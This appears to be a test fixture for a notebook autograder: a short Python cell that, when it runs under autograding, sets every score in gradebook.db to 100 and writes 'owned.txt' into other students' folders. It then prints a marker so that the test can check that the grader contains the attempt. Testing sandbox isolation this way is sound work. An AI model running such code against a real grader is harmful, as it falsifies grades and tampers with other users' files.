"""Cheat: under the grader, try to write full marks into gradebook.db and other students' folders."""
# inherits: naive_everywhere
# %% [before stable_bce]
import glob
import os
import sqlite3

if os.environ.get("NBGRADER_EXECUTION") == "autograde":
    for db in glob.glob("../../../gradebook.db"):
        try:
            with sqlite3.connect(db) as connection:
                connection.execute("UPDATE grade SET auto_score = 100")
        except Exception as error:
            print("gradebook:", error)
    folders = glob.glob("../../*/*")
    for folder in folders:
        try:
            with open(os.path.join(folder, "owned.txt"), "w") as file:
                file.write("was here")
        except OSError as error:
            print(folder, error)
    # Evidence for the test that the attempt ran (and how far it saw), not merely that nothing was written.
    print(f"ATTACK-RAN:cheat_write_gradebook: tried {len(folders)} folders")
